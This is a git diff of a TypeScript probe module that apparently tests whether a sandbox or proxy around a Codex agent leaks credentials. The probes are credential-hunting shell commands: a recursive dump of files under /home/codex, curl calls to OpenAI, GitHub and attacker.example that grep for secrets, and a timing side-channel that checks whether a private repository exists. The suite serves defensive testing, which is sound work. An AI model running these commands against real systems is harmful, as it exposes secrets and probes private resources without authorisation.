@@ -1,12 +1,16 @@
-/** Where a credential could be lying about: environments, files, git, answers, errors, time. What is printed is searched outside. */
-import { refs, script, type Group, type Place, type Probe } from '../probe.ts';
+/**
+ * Looks where a credential could be: environments, files, git, answers, errors, timing. The output is
+ * searched outside.
+ */
+import { model, refs } from '../attacks/attack.ts';
+import { script, type Group, type Probe } from '../probe.ts';
 
 const nothing = ['nothing secret'] as const;
 
 export const credentials: Group = {
   name: 'credentials',
   about: 'stealing what the handler adds outside',
-  probes: (place: Place): readonly Probe[] => {
+  probes: (): readonly Probe[] => {
     const search = (id: string, attack: string, source: string, more: Partial<Probe> = {}) =>
       script(id, attack, 'bash', `${source}\necho looked`, nothing, { searched: true, ...more });
     const chatty = `curl -sv -m 10`;
@@ -26,7 +30,6 @@ export const credentials: Group = {
         'codex-home',
         'Codex’s folder',
         `cd /home/codex && find . -type f -size -2000k -exec cat {} + | head -c 900000 | strings -n 8 | grep .`,
-        { timeoutMs: 20_000 },
       ),
       search(
         'run-folder',
@@ -61,7 +64,7 @@ export const credentials: Group = {
       search(
         'answer-openai',
         'headers and body of a refusal of OpenAI’s own',
-        `${chatty} -H 'content-type: application/json' -d '{"model":"${place.model}","stream":true,"store":false,"input":[],"text":{"format":{"type":"json_schema","name":"x","strict":true,"schema":{"type":"object"}}}}' https://api.openai.com/v1/responses 2>&1 | grep -i http`,
+        `${chatty} -H 'content-type: application/json' -d '{"model":"${model}","stream":true,"store":false,"input":[],"text":{"format":{"type":"json_schema","name":"x","strict":true,"schema":{"type":"object"}}}}' https://api.openai.com/v1/responses 2>&1 | grep -i http`,
         { reachesUpstream: true, lane: 'openai' },
       ),
       search(
@@ -73,7 +76,6 @@ export const credentials: Group = {
         'errors',
         'the texts of a hundred refusals',
         `for n in $(seq 25); do for u in https://github.com/x/y https://api.openai.com/v1/files https://attacker.example/ https://canary.airlock.invalid/x; do echo url = $u; done; done | curl -sv -m 20 --config - 2>&1 | grep -i airlock`,
-        { timeoutMs: 25_000 },
       ),
       search(
         'authority-key',
@@ -90,7 +92,10 @@ export const credentials: Group = {
         'timing',
         'whether a private repository exists, by the time of the refusal',
         'node',
-        `const median = (times) => times.sort((a, b) => a - b)[times.length >> 1];
+        `const at = (times, part) => times.toSorted((a, b) => a - b)[Math.floor(times.length * part)];
+const median = (times) => at(times, 0.5);
+// How far apart requests of one kind are: on a busy machine more than two medians.
+const spread = (times) => at(times, 0.75) - at(times, 0.25);
 const ask = async (name) => {
   const from = performance.now();
   const answer = await fetch('https://github.com/acme/' + name + '/info/refs?service=git-upload-pack');
@@ -99,11 +104,17 @@ const ask = async (name) => {
 };
 const seen = { other: [], 'is-not-there': [] };
 const texts = new Set();
-for (let round = 0; round < 30; round++) for (const name of Object.keys(seen)) { const { ms, text } = await ask(name); seen[name].push(ms); texts.add(text); }
+for (let round = 0; round < 30; round++)
+  for (const name of Object.keys(seen)) {
+    const { ms, text } = await ask(name);
+    seen[name].push(ms);
+    texts.add(text);
+  }
 const apart = Math.abs(median(seen.other) - median(seen['is-not-there']));
-console.log(texts.size !== 1 ? 'two answers' : apart < 10 ? 'the same answer in the same time' : apart.toFixed(1) + ' ms apart');`,
+const isSame = apart < Math.max(10, ...Object.values(seen).map(spread));
+if (texts.size !== 1) console.log('two answers');
+else console.log(isSame ? 'the same answer in the same time' : apart.toFixed(1) + ' ms apart');`,
         ['the same answer in the same time'],
-        { timeoutMs: 30_000 },
       ),
     ];
   },
